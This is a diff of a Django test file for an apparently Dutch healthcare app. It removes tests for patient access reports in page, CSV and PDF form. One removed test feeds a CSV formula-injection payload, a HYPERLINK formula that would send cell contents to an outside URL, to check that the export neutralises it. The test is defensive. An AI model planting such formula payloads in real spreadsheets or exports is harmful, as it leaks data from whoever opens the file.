@@ -6,9 +6,7 @@ produces the patient's access report as a page, CSV and PDF."""
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
-import io
 
 import pytest
 from django.contrib.sessions.models import Session
@@ -183,41 +181,6 @@ def test_privacy_officer_reviews_and_reports(make_actor, client_for):
     assert grant.reason not in client.get(reverse("acute:review_queue")).content.decode()
 
 
-def test_access_report_page_csv_pdf(hap, make_actor, client_for):
-    from pypdf import PdfReader
-
-    patient = CarePlanFactory().patient
-    services.start_emergency_access(
-        hap, patient, reason_code=EmergencyReason.LIFE_THREATENING, reason="Reden voor test."
-    )
-    access.open_acute_summary(hap, patient.pk)
-    privacy = make_actor(RoleCode.PRIVACY_OFFICER)
-    client = client_for(privacy)
-    found = client.post(reverse("acute:access_report_find"), {"bsn": patient.bsn})
-    url = reverse("acute:access_report", args=[patient.pk])
-    assert found["Location"] == url
-    page = client.get(url).content.decode()
-    assert "gebruikte noodtoegang" in page and "Reden voor test." in page
-    assert hap.organization.name in page
-    csv_text = client.get(url + "?format=csv").content.decode("utf-8-sig")
-    assert csv_text.splitlines()[0].startswith("Wanneer;Wie;Organisatie")
-    assert "Reden voor test." in csv_text
-    pdf = client.get(url + "?format=pdf").content
-    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
-    assert "noodtoegang" in text
-    assert (
-        AuditEvent.objects.filter(
-            event_type="acute.access_report_exported", patient_id=patient.pk
-        ).count()
-        == 2
-    )
-
-
-def test_access_report_needs_permission(hap, client_for):
-    patient = PatientFactory()
-    assert client_for(hap).get(reverse("acute:access_report", args=[patient.pk])).status_code == 403
-
-
 def test_review_queue_query_count_is_flat(make_actor, client_for):
     privacy = make_actor(RoleCode.PRIVACY_OFFICER)
     client = client_for(privacy)
@@ -228,23 +191,6 @@ def test_review_queue_query_count_is_flat(make_actor, client_for):
     EmergencyAccessFactory.create_batch(6)
     with CaptureQueriesContext(connection) as large:
         client.get(reverse("acute:review_queue"))
-    assert len(large) == len(small)
-
-
-def test_access_report_query_count_is_flat(hap, make_actor, client_for):
-    patient = PatientFactory()
-    ConsentFactory(patient=patient, scope=ConsentScope.ACUTE_CARE)
-    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
-    url = reverse("acute:access_report", args=[patient.pk])
-    for _ in range(3):
-        access.open_acute_summary(hap, patient.pk)
-    client.get(url)
-    with CaptureQueriesContext(connection) as small:
-        client.get(url)
-    for _ in range(20):
-        access.open_acute_summary(hap, patient.pk)
-    with CaptureQueriesContext(connection) as large:
-        client.get(url)
     assert len(large) == len(small)
 
 
@@ -474,28 +420,8 @@ def test_opening_an_emergency_access_to_review_it_is_logged(make_actor, client_f
     invalid = client.post(reverse("acute:review", args=[grant.pk]), {"conclusion": ""})
     assert invalid.status_code == 200
     assert AuditEvent.objects.filter(event_type="acute.review_read").count() == 2
-    report = client.get(reverse("acute:access_report", args=[grant.patient_id])).content.decode()
+    report = client.get(reverse("audit:access_report", args=[grant.patient_id])).content.decode()
     assert "opende een noodtoegang om die te beoordelen" in report
-
-
-def test_access_report_csv_neutralises_formulas(hap, make_actor, client_for):
-    """The emergency reason and names are free text: a cell that starts like a formula gets a
-    quote, so the CSV cannot run anything when opened in a spreadsheet."""
-    patient = CarePlanFactory().patient
-    reason = '=HYPERLINK("https://example.org/?x="&A1;"klik")'
-    hap.user.first_name = "@SUM(1+1)"
-    hap.user.save()
-    services.start_emergency_access(
-        hap, patient, reason_code=EmergencyReason.LIFE_THREATENING, reason=reason
-    )
-    access.open_acute_summary(hap, patient.pk)  # logged with the reason as given
-    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
-    url = reverse("acute:access_report", args=[patient.pk]) + "?format=csv"
-    text = client.get(url).content.decode("utf-8-sig")
-    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
-    assert "'" + reason in cells
-    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
-    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
 
 
 def test_double_review_is_refused_with_a_message(make_actor, client_for, monkeypatch):
@@ -551,39 +477,6 @@ def test_summary_reads_patient_consent_and_plan_in_one_query(hap, shared_patient
     with CaptureQueriesContext(connection) as large:
         client.get(url)
     assert len(large) == len(small)
-
-
-def test_access_report_pdf_names_the_patient_exactly_on_every_page(make_actor, client_for):
-    """The running header used to carry the name through a JavaScript escape inside a CSS
-    string: "Hart-de Vriés" printed as "Hartu002Dde Vriés"."""
-    from pypdf import PdfReader
-
-    patient = CarePlanFactory(
-        patient__given_name="Anna", patient__family_name="'t Hart-de Vriés"
-    ).patient
-    nurse = make_actor(RoleCode.DISTRICT_NURSE)
-    for n in range(60):  # enough distinct lines for more than one landscape page
-        audit_record_read(nurse, patient.pk, event=f"patients.section_{n}_read")
-    client = client_for(make_actor(RoleCode.PRIVACY_OFFICER))
-    pdf = client.get(reverse("acute:access_report", args=[patient.pk]) + "?format=pdf").content
-    pages = [" ".join(p.extract_text().split()) for p in PdfReader(io.BytesIO(pdf)).pages]
-    assert len(pages) >= 2
-    for number, text in enumerate(pages, start=1):
-        assert f"Inzageverslag — {patient.full_name}" in text, number
-        assert f"pagina {number} van {len(pages)}" in text, number
-
-
-def audit_record_read(actor, patient_id: int, *, event: str = "patients.patient_read") -> None:
-    from palliare.audit import services as audit
-    from palliare.audit.constants import AuditAction, AuditPurpose
-
-    audit.record(
-        event,
-        actor=actor,
-        action=AuditAction.READ,
-        patient_id=patient_id,
-        purpose=AuditPurpose.TREATMENT,
-    )
 
 
 def test_expired_search_on_emergency_form_says_so(hap, unshared_patient, client_for, monkeypatch):
